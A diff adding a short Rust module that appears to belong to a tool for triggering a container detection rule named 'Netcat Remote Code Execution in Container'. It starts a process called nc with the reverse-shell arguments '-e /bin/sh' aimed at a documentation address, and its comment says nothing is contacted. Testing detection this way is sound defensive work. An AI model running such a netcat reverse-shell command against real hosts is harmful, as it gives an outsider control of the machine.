@@ -1,0 +1,17 @@
+//! A shell for who is at the other end. Nothing is contacted.
+
+use super::super::{Action, Scene, Stop};
+
+pub(super) const ACTION: Action = Action::new(
+    "syscall.NetcatRemoteCodeExecutionInContainer",
+    "start a process called `nc` with a shell to run",
+    play,
+)
+.rule("Netcat Remote Code Execution in Container")
+.inside();
+
+fn play(scene: &Scene) -> Result<(), Stop> {
+    let mut nc = scene.pose("nc")?;
+    nc.args(["-e", "/bin/sh", "192.0.2.1", "22"]);
+    scene.run(nc)
+}
